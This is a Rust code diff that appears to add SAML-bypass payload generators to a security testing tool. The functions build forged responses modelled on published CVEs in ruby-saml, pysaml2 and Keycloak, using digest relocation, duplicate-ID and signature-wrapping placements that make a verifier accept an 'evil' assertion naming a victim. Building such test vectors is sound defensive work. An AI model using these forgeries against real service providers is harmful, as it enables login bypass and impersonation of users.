@@ -7,6 +7,10 @@
 //! the signed *Response*, so they run after it is written and signed.
 
 use super::stages::StageContext;
+use super::{
+    DigestPosition, DuplicateIdPlacement, HiddenOriginal, ResponseLevelOriginal, SignatureHome,
+    signed_assertion,
+};
 use crate::saml::assertion::AssertionModel;
 use crate::saml::mint::{Assembly, Fragment, MintError, write_response_with_signature};
 use crate::saml::ns;
@@ -251,4 +255,182 @@ fn strip_signature(xml: &str) -> String {
         Some((s, e)) => format!("{}{}", &xml[..s], &xml[e..]),
         None => xml.to_string(),
     }
+}
+
+// ---- issue 13: published SAML bypass advisories (docs/advisories.md S1-S4) ----
+
+/// The namespace of the unknown wrapper element some placements use.
+const WRAPPER_NS: &str = "urn:mock:xsw";
+
+/// `xml` inside an unknown `<x:W>` element (a Response child no SAML schema defines).
+fn in_wrapper(xml: &str) -> String {
+    format!(r#"<x:W xmlns:x="{WRAPPER_NS}">{xml}</x:W>"#)
+}
+
+/// `xml` as the last child of the assertion `assertion`.
+fn as_last_child(assertion: &str, xml: &str) -> String {
+    match assertion.rfind("</saml:Assertion>") {
+        Some(end) => format!("{}{xml}{}", &assertion[..end], &assertion[end..]),
+        None => assertion.to_string(),
+    }
+}
+
+/// `digest-value-elsewhere` (ruby-saml CVE-2024-45409): the NameID of the signed assertion is
+/// changed to the victim's and the genuine Signature kept (its SignedInfo still verifies); the
+/// digest of the tampered assertion, computed exactly as `digest-value-comment` does, goes to
+/// `position`. A verifier that looks `ds:DigestValue` (or `ds:Reference`) up from the document
+/// root finds the forged one first.
+pub(crate) fn digest_value_elsewhere(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    position: DigestPosition,
+) -> Result<(), MintError> {
+    let Some(first) = asm.fragments.first_mut() else {
+        return Ok(());
+    };
+    let (tampered, forged) = signed_assertion::tamper_with_matching_signature(&first.xml, cx)?;
+    let declare_ds = |x: &str, tag: &str| {
+        x.replacen(
+            &format!("<ds:{tag}"),
+            &format!(r#"<ds:{tag} xmlns:ds="{}""#, ns::DS),
+            1,
+        )
+    };
+    let forged_signed_info =
+        signed_assertion::element(&forged, "<ds:SignedInfo>", "</ds:SignedInfo>")
+            .unwrap_or_default()
+            .to_string();
+    first.xml = match position {
+        DigestPosition::Extensions => {
+            let digest =
+                signed_assertion::element(&forged, "<ds:DigestValue>", "</ds:DigestValue>")
+                    .unwrap_or_default();
+            asm.extensions = Some(format!(
+                "<samlp:Extensions>{}</samlp:Extensions>",
+                declare_ds(digest, "DigestValue")
+            ));
+            tampered
+        }
+        DigestPosition::ExtensionsReference => {
+            let reference = signed_assertion::element(&forged, "<ds:Reference ", "</ds:Reference>")
+                .unwrap_or_default();
+            asm.extensions = Some(format!(
+                "<samlp:Extensions>{}</samlp:Extensions>",
+                declare_ds(reference, "Reference")
+            ));
+            tampered
+        }
+        DigestPosition::BeforeSignedInfo => tampered.replacen(
+            "<ds:SignedInfo>",
+            &format!("<ds:Object>{forged_signed_info}</ds:Object><ds:SignedInfo>"),
+            1,
+        ),
+        DigestPosition::AfterSignature => tampered.replacen(
+            "</ds:Signature>",
+            &format!("<ds:Object>{forged_signed_info}</ds:Object></ds:Signature>"),
+            1,
+        ),
+    };
+    Ok(())
+}
+
+/// `xsw-duplicate-id`: an evil assertion with the signed assertion's own ID, the genuine one
+/// moved to `original`, and the Signature left in the genuine assertion or moved into the evil
+/// one. A verifier that resolves `#ID` to the first (or last) element registered under it
+/// digests the genuine assertion while the SP reads the evil one.
+pub(crate) fn xsw_duplicate_id(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+    original: DuplicateIdPlacement,
+    signature: SignatureHome,
+) -> Result<(), MintError> {
+    let Some(w) = Wrapping::of(asm, cx, victim)? else {
+        return Ok(());
+    };
+    let mut evil = w.evil.clone();
+    evil.id = cx.model.assertions.first().and_then(|a| a.id.clone());
+    let (genuine, evil) = match signature {
+        SignatureHome::Genuine => (w.signed, write_assertion(&evil, None)),
+        SignatureHome::Evil => (w.clean, write_assertion(&evil, Some(&w.signature))),
+    };
+    match original {
+        DuplicateIdPlacement::Extensions => {
+            asm.extensions = Some(format!("<samlp:Extensions>{genuine}</samlp:Extensions>"));
+            asm.fragments[0] = Fragment::assertion(evil);
+        }
+        DuplicateIdPlacement::WrapperBefore => {
+            asm.prefix.push(in_wrapper(&genuine));
+            asm.fragments[0] = Fragment::assertion(evil);
+        }
+        DuplicateIdPlacement::SiblingAfter => {
+            asm.fragments[0] = Fragment::assertion(evil);
+            asm.fragments.insert(1, Fragment::assertion(genuine));
+        }
+        DuplicateIdPlacement::NestedLastChild => {
+            asm.fragments[0] = Fragment::assertion(as_last_child(&evil, &genuine));
+        }
+    }
+    Ok(())
+}
+
+/// `xsw-signature-in-evil` (pysaml2 CVE-2021-21238): the evil assertion (its own ID) carries
+/// the genuine Signature, whose Reference still names the original; the original, its
+/// Signature stripped, goes to `original`. These are the three test vectors of the pysaml2 fix.
+pub(crate) fn xsw_signature_in_evil(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+    original: HiddenOriginal,
+) -> Result<(), MintError> {
+    let Some(w) = Wrapping::of(asm, cx, victim)? else {
+        return Ok(());
+    };
+    let evil = write_assertion(&w.evil, Some(&w.signature));
+    match original {
+        HiddenOriginal::NestedLastChild => {
+            asm.fragments[0] = Fragment::assertion(as_last_child(&evil, &w.clean));
+        }
+        HiddenOriginal::Extensions => {
+            asm.extensions = Some(format!("<samlp:Extensions>{}</samlp:Extensions>", w.clean));
+            asm.fragments[0] = Fragment::assertion(evil);
+        }
+        HiddenOriginal::WrapperAfter => {
+            asm.fragments[0] = Fragment::assertion(evil);
+            // Not an assertion: written as is, after the evil one.
+            asm.fragments.insert(
+                1,
+                Fragment {
+                    xml: in_wrapper(&w.clean),
+                    encrypt: false,
+                },
+            );
+        }
+    }
+    Ok(())
+}
+
+/// `xsw-assertion-signature-on-response` (Keycloak CVE-2024-8698): the assertion's Signature
+/// becomes a child of `samlp:Response`, where a Response signature sits, its Reference still
+/// `#<assertion ID>`; the clean original goes to `original`; an unsigned evil assertion stands
+/// where the assertion belongs. A verifier that calls the document signed because the root
+/// has a valid ds:Signature child, without asking what it references, consumes the evil one.
+pub(crate) fn xsw_assertion_signature_on_response(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+    original: ResponseLevelOriginal,
+) -> Result<(), MintError> {
+    let Some(w) = Wrapping::of(asm, cx, victim)? else {
+        return Ok(());
+    };
+    asm.response_signature = Some(w.signature);
+    match original {
+        ResponseLevelOriginal::Extensions => {
+            asm.extensions = Some(format!("<samlp:Extensions>{}</samlp:Extensions>", w.clean));
+        }
+        ResponseLevelOriginal::Wrapper => asm.prefix.push(in_wrapper(&w.clean)),
+    }
+    asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, None));
+    Ok(())
 }
